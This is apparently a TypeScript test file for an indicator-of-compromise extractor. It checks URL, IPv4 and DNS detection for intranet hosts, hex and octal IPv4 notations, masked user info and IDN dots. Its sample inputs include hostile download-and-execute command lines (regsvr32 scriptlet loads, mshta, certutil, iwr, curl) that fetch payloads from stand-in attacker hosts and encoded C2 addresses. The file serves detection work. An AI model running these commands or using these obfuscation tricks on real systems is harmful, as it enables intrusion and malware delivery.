/**
 * URL hosts (issue #12): intranet URLs — single-label hosts, IP literals and
 * names under private suffixes — are URLs, in extraction and in whole-value
 * detection (TILookup's types); the public-suffix check is for `dns`
 * observables only. Junk stays out.
 */
import assert from "node:assert/strict";
import { test } from "node:test";
import pl from "nodejs-polars";
import { classifyIoc, detectIocType } from "../../src/context/iocType";
import { QueryProvider } from "../../src/data/queryProvider";
import { classifyObservable } from "../../src/transform/iocPatterns";
import { IoCExtract } from "../../src/transform/iocExtract";
import { domainToASCII } from "node:url";

const iocs = new IoCExtract();

test("intranet attack URLs are found: single labels, private suffixes, IP literals", () => {
  const text =
    "regsvr32 /s /i:http://stager01/payload.sct scrobj.dll; mshta http://webdav-02:8080/launch.hta; " +
    "certutil -urlcache -f http://files.corp.internal/x.exe a.exe; iwr http://10.20.30.40/s.ps1; " +
    "curl http://[fd00::25]:8443/implant and ftp://nas_backup/dump.7z";
  assert.deepEqual(iocs.extractText(text, { iocTypes: ["url"], urlHostAsDns: false }).url, [
    "http://stager01/payload.sct",
    "http://webdav-02:8080/launch.hta",
    "http://files.corp.internal/x.exe",
    "http://10.20.30.40/s.ps1",
    "http://[fd00::25]:8443/implant",
    "ftp://nas_backup/dump.7z",
  ]);
  // The hosts of intranet URLs are not `dns` observables (that type keeps its public-suffix check).
  const all = iocs.extractText(text);
  assert.equal(all.dns, undefined);
  assert.deepEqual(iocs.extractText("see http://intranet-wiki.", { iocTypes: ["url"] }).url, ["http://intranet-wiki"]);
});

test("junk is still no URL: empty or broken hosts, invalid dotted numbers, hosts cut inside a word", () => {
  for (const text of [
    "http://",
    "http:// spaced",
    "https://-bad-/x",
    "https://a..b/x",
    "http://.hidden/x",
    "http://999.10.10.10/x",
    "http://1.2.3.4.5/x",
    "http://1.2.3.4.5./x", // more than four parts, or an empty one, is no address to browsers either
    "http://0x7f..1/x",
    "http://${HOST}/x",
    "http://%s/x",
    "http://<server>/x",
    "http://evil.com\u7f51\u7ad9/x", // cut inside a word (`bücher` is a whole IDN host: iocMsticpyDiff.test.ts)
    "http://\u0301abc.com/x", // a label IDNA refuses
    "http://_/x",
  ]) {
    assert.equal(iocs.extractText(text, { iocTypes: ["url"] }).url, undefined, text);
  }
});

// Browsers read `http://0x7f.0.0.1/`, `http://2130706433/`, `http://0177.0.0.1/` and `http://127.1/` as 127.0.0.1
// (WHATWG URL), and droppers write C2 addresses so to hide them. The hex, octal and short forms were no URL at all
// (a numeric last label had to be a dotted quad), and no form gave the address: a hunt for 127.0.0.1 or a C2
// address in ipv4 observables missed them.
test("a URL whose host is an IPv4 address in another notation is found whole, and the address it reaches is an ipv4 observable", () => {
  const cases: [string, string][] = [
    ["http://0x7f.0.0.1/", "127.0.0.1"],
    ["http://2130706433/", "127.0.0.1"],
    ["http://0177.0.0.1/x", "127.0.0.1"],
    ["http://127.1/", "127.0.0.1"],
    ["https://0x2d.0123.16706/stage2.ps1", "45.83.65.66"],
    ["http://0xC0A80001:8080/payload.exe?a=1", "192.168.0.1"],
    ["http://0x2D.0x53.0x42.0x0A./x", "45.83.66.10"],
    ["hxxp://0x2d[.]83[.]66[.]10/x", "45.83.66.10"],
    ["http://1.2.3/x", "1.2.0.3"],
    ["http://user:pw@3232235777/x", "192.168.1.1"],
  ];
  for (const [url, address] of cases) {
    const found = iocs.extractText(`powershell iwr ${url} -OutFile a.exe`);
    assert.deepEqual(found.url, [url.replace("hxxp", "http").replaceAll("[.]", ".").replace("user:pw@", "***@")], url);
    assert.deepEqual(found.ipv4, [address], url);
    assert.equal(found.dns, undefined, url);
    assert.equal(detectIocType(url), "url", url);
  }
  // In a frame: the url row and the ipv4 row keep the cell as written in Input.
  const df = iocs.extract(pl.DataFrame({ CommandLine: ["certutil -urlcache -f http://0x2d.0x53.0x42.0x0a/x.exe x.exe", "curl http://45.83.66.10/x"] }), { columns: "CommandLine" });
  assert.deepEqual(df.select("IoCType", "Observable", "SourceIndex").toRecords(), [
    { IoCType: "url", Observable: "http://0x2d.0x53.0x42.0x0a/x.exe", SourceIndex: 0 },
    { IoCType: "ipv4", Observable: "45.83.66.10", SourceIndex: 0 },
    { IoCType: "ipv4", Observable: "45.83.66.10", SourceIndex: 1 },
    { IoCType: "url", Observable: "http://45.83.66.10/x", SourceIndex: 1 },
  ]);
  assert.equal(df.getColumn("Input").toArray()[1], "certutil -urlcache -f http://0x2d.0x53.0x42.0x0a/x.exe x.exe");
  // Not an address: names that only look hex (a final label no number), numbers no browser takes.
  for (const url of ["http://cafe.be/x", "http://0xbad.com/x", "http://deadbeef/x"]) {
    const found = iocs.extractText(url);
    assert.deepEqual(found.url, [url], url);
    assert.equal(found.ipv4, undefined, url);
  }
  // With urlHostAsDns off, as for a name, the host is not reported.
  assert.equal(iocs.extractText("http://0x7f.0.0.1/", { urlHostAsDns: false }).ipv4, undefined);
  // TI lookups read the URL as the address it reaches (the loopback is not sent anywhere).
  assert.deepEqual(classifyIoc("http://0x2d.0x53.0x42.0x0a/x"), { ioc: "http://0x2d.0x53.0x42.0x0a/x", type: "url", safeIoc: "http://45.83.66.10/x" });
  assert.deepEqual(classifyIoc("http://127.1/"), { ioc: "http://127.1/", type: "url", safeIoc: "http://127.0.0.1/" });
});

// WHATWG URL (https://url.spec.whatwg.org/#concept-ipv4-parser): a host whose last label is a number (decimal, or 0x
// and hex) is parsed as IPv4 only, and fails when a part is not a number, there are more than four parts, or a part
// is too large. `http://0x1ffffffff/` and `http://1.2.3.4.0x5/x` were URLs (their hosts taken as names) though no
// browser opens them; `new URL` is the oracle here.
test("a host ending in a number is a URL only when WHATWG reads it as an IPv4 address; else there is no URL (nor dns)", () => {
  const invalid = ["0x100000000", "0x1ffffffff", "4294967296", "99999999999", "1.2.3.256", "1.0x100.3.4", "1.2.3.4.0x5", "1.2.65536", "1.16777216", "08", "0x7f.0x1000000", "evil.0x5", "evil.09", "cafe.0x5", "\uff45\uff58\uff41\uff4d\uff50\uff4c\uff45.0x5"];
  for (const host of invalid) {
    const url = `http://${host}/x`;
    assert.throws(() => new URL(url), TypeError, url);
    assert.deepEqual(iocs.extractText(`iwr ${url} -OutFile a.exe`), {}, url);
    assert.equal(detectIocType(url), "unknown", url);
    assert.equal(classifyIoc(url, "url").safeIoc, "", url);
  }
  // The edges that do parse: 2^32 - 1 whole, each short form's last part at its largest, `0x` alone (0),
  // full-width digits (IDNA maps them first).
  const valid: [string, string][] = [
    ["4294967295", "255.255.255.255"],
    ["0xffffffff", "255.255.255.255"],
    ["037777777777", "255.255.255.255"],
    ["1.16777215", "1.255.255.255"],
    ["1.2.65535", "1.2.255.255"],
    ["0x", "0.0.0.0"],
    ["1.2.3.4.", "1.2.3.4"],
    ["\uff11\uff12\uff17.\uff10.\uff10.\uff11", "127.0.0.1"],
  ];
  for (const [host, address] of valid) {
    const url = `http://${host}/x`;
    assert.equal(new URL(url).hostname, address, url);
    const found = iocs.extractText(`iwr ${url} -OutFile a.exe`);
    assert.deepEqual(found.url, [url], url);
    assert.deepEqual(found.ipv4, [address], url);
    assert.equal(detectIocType(url), "url", url);
  }
  // A last label that is no number leaves a name: hex-looking words, `0x` with a non-hex letter.
  for (const host of ["0xbad.com", "deadbeef", "0xg", "1.2.3.4.x5"]) {
    const url = `http://${host}/x`;
    assert.equal(new URL(url).hostname, host, url);
    assert.deepEqual(iocs.extractText(url).url, [url], url);
  }
});

test("whole-value detection (IoCExtract.getIocType, TILookup) calls intranet URLs `url`", () => {
  for (const value of ["http://badhost/pwnme", "http://srv/file.sct", "hxxp://stager01[.]lan/a", "https://10.0.0.5:8443/x", "http://[fe80::1]/y"]) {
    assert.equal(classifyObservable(value), "url", value);
    assert.equal(iocs.getIocType(value), "url", value);
    assert.equal(detectIocType(value), "url", value);
  }
  assert.deepEqual(classifyIoc("http://BadHost/pwnme"), { ioc: "http://BadHost/pwnme", type: "url", safeIoc: "http://badhost/pwnme" });
  assert.deepEqual(classifyIoc("hxxp://stager01[.]lan/a"), { ioc: "hxxp://stager01[.]lan/a", type: "url", safeIoc: "http://stager01.lan/a" });
  for (const value of ["http://", "http://-x-/", "http://999.1.1.1/", "http://a b/"]) assert.equal(detectIocType(value), "unknown", value);
  // A single label alone is still no dns observable.
  assert.equal(detectIocType("badhost"), "unknown");
});

test("lab data: the Squiblydoo URL in processes_on_host (http://server/file.sct) is found", async () => {
  const procs = await new QueryProvider("LocalData").WindowsSecurity.list_host_processes();
  const found = iocs.extract(procs.select("CommandLine"), { columns: "CommandLine", iocTypes: ["url"] });
  const sct = found.filter(pl.col("Observable").eq(pl.lit("http://server/file.sct")));
  assert.ok(sct.height >= 1);
  for (const input of sct.getColumn("Input").toArray() as unknown as string[]) assert.match(input, /\/i:http:\/\/server\/file\.sct/i);
});

test("a backslash after the host is a path in a web URL, as browsers read it: %5C decoded keeps the path; a trailing backslash (an escaped quote in JSON) is not part of the URL", () => {
  const ioc = new IoCExtract();
  assert.deepEqual(ioc.extractText("get http://evil.com%5Cpayload.exe now", { iocTypes: ["url"] }).url, ["http://evil.com%5Cpayload.exe", "http://evil.com\\payload.exe"]);
  assert.deepEqual(ioc.extractText("http://evil.com%5C..%5Cwindows", { iocTypes: ["url"] }).url, ["http://evil.com%5C..%5Cwindows", "http://evil.com\\..\\windows"]);
  assert.deepEqual(ioc.extractText('{"u":"http://evil.com\\"}', { iocTypes: ["url"] }).url, ["http://evil.com"]);
  assert.deepEqual(ioc.extractText("copy \\\\srv\\share http://evil.com\\", { iocTypes: ["url"] }).url, ["http://evil.com"]);
  // Not a web scheme: the backslash ends it, as before.
  assert.deepEqual(ioc.extractText("ldap://dc.corp.example\\x", { iocTypes: ["url"] }).url, ["ldap://dc.corp.example"]);
});

test("a URL whose user info holds an `@` goes to the host after the last one, as browsers read it (and as user info is masked)", () => {
  // The phishing shape: the brand in the user info, the real host after the last `@`.
  const text = "click http://paypal.com@secure-login@evil-host.com/verify?id=1 or ftp://a@b@198.51.100.7/x";
  const found = iocs.extractText(text, { iocTypes: ["url", "email"] });
  // User info shows as *** (README "A URL's user info shows nowhere"): all of it, up to the last `@`.
  assert.deepEqual(found.url, ["http://***@evil-host.com/verify?id=1", "ftp://***@198.51.100.7/x"]);
  // The host is the last part (it was paypal.com, or `http://a@b` with no host at all), and user info is no e-mail.
  assert.equal(found.email, undefined);
  assert.deepEqual(iocs.extractText("http://user@bank.com@evil-host.com/x", { iocTypes: ["url"] }).dns, ["evil-host.com"]);
  assert.equal(classifyObservable("http://user@bank.com@evil-host.com/x"), "url");
  // A path's `@` is still a path's (`/@user` on social sites), a single `@` still ends user info.
  assert.deepEqual(iocs.extractText("https://social.example.com/@user and http://admin:pw@evil-host.com/a", { iocTypes: ["url"], urlHostAsDns: false }).url, [
    "https://social.example.com/@user",
    "http://***@evil-host.com/a",
  ]);
});

// A user name in another script or in full-width letters ended the URL at its `@`: `http://ｕｓｅｒ@evil-host.com/x`
// gave the URL `http://ｕｓｅｒ` (host `ｕｓｅｒ`) and the e-mail `ｕｓｅｒ@evil-host.com`. WHATWG takes any letter there.
test("user info in any script is user info: the URL runs on to its host", () => {
  for (const user of ["\uff55\uff53\uff45\uff52", "\u0438\u0432\u0430\u043d", "m\u00fcller:p\u00e4ss", "\u7528\u6237", "\ud835\udc2e\ud835\udc2c\ud835\udc1e\ud835\udc2b"]) {
    const url = `http://${user}@evil-host.com/x`;
    const found = iocs.extractText(`curl ${url} -o a`, { iocTypes: ["url", "email", "dns"] });
    assert.deepEqual(found.url, ["http://***@evil-host.com/x"], url);
    assert.deepEqual(found.dns, ["evil-host.com"], url);
    assert.equal(found.email, undefined, url);
    assert.equal(new URL(url).hostname, "evil-host.com");
    assert.deepEqual(classifyIoc(url), { ioc: url, type: "url", safeIoc: "http://evil-host.com/x" }, url);
  }
  // White space, quotes and other punctuation still end it (no `@` after them: no user info).
  assert.deepEqual(iocs.extractText("see http://evil-host.com/x \u201cuser\u201d@corp.com", { iocTypes: ["url"] }).url, ["http://evil-host.com/x"]);
});

// IDNA's other dots (`。` U+3002, `．` U+FF0E, `｡` U+FF61) part a host's labels, as WHATWG URL reads them. Refang made
// a dot of one between ASCII letters or digits (`http://evil。example。com/`); one beside a letter of another script or a
// full-width letter ended the host there: `http://пример。рф/путь` was reported as `http://пример` (host `пример`,
// another host than the one a browser opens) and `http://ｅｖｉｌ．ｃｏｍ/a` as `http://ｅｖｉｌ`.
test("a URL host's ideographic or full-width dots are dots, as new URL reads them: the same url and dns indicators as ASCII dots", () => {
  const cases = [
    "http://evil\u3002example\u3002com/x",
    "http://evil\uff0eexample\uff0ecom/",
    "https://b\u00fccher\uff61de/a",
    "http://\u043f\u0440\u0438\u043c\u0435\u0440\u3002\u0440\u0444/\u043f\u0443\u0442\u044c",
    "http://\uff45\uff56\uff49\uff4c\uff0e\uff43\uff4f\uff4d/a",
    "http://\uff45\uff56\uff49\uff4c\uff0ecom/b?q=1",
    "http://\u043f\u0440\u0438\u043c\u0435\u0440\uff0e\u0440\u0444:8080/c",
  ];
  for (const written of cases) {
    const browser = new URL(written);
    const r = iocs.extractText(`get ${written} now`);
    assert.equal(r.url?.length, 1, written);
    const [url] = r.url;
    assert.equal(new URL(url).href, browser.href, written);
    assert.ok(!/[\u3002\uff0e\uff61]/.test(url.slice(0, url.indexOf("/", 8))), `${written}: host written with dots (${url})`);
    assert.deepEqual(r.dns?.map((d) => domainToASCII(d)), [browser.hostname], written);
  }
  // As with ASCII dots: the same observables as the host written with dots.
  assert.deepEqual(iocs.extractText("ping evil\uff0eexample\uff0ecom"), iocs.extractText("ping evil.example.com"));
  assert.deepEqual(iocs.extractText("get http://evil\u3002example\u3002com/x"), iocs.extractText("get http://evil.example.com/x"));
  // A sentence's full stop after a host is no part of it; a dot that starts or ends no label is none.
  assert.deepEqual(iocs.extractText("\u8bbf\u95ee http://\u043f\u0440\u0438\u043c\u0435\u0440\u3002\u0440\u0444\u3002\u4e0b\u8f7d").url, ["http://\u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444"]);
  assert.deepEqual(iocs.extractText("see http://\u00fcber.de\u3002").url, ["http://\u00fcber.de"]);
  assert.equal(iocs.extractText("http://\u3002\u00fc.de/ http://\u00fc\u3002\u3002de/").url, undefined);
});

// A letter of a supplementary plane (mathematical bold, U+1D400 block) right after a host: `http://evil.com𝐱/` was
// reported as the URL `http://evil.com` (the check for a letter after the host read half of its surrogate pair), while
// a browser goes to evil.comx. Such letters are no host characters here (as in a domain or an e-mail address): no URL.
test("a host followed by a mathematical letter is no URL cut before it; a host of such letters is none either", () => {
  for (const text of ["http://evil.com\u{1d431}/x", "http://\u{1d41e}\u{1d42f}\u{1d422}\u{1d425}.com/x", "http://evil\u{1d41e}.com/"]) {
    const r = iocs.extractText(text);
    assert.equal(r.url, undefined, text);
    assert.ok(!(r.dns ?? []).some((d) => d === "evil.com" || d === "l.com"), `${text}: ${r.dns}`);
  }
});
